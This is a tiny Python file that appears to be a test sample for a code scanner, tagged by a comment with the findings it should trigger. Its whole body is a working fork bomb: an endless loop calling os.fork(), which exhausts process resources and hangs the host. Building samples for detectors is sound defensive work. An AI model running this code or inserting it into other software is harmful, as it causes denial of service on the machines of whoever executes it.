# finds: processes/start, exhaustion/breeding
import os
while True:
    os.fork()
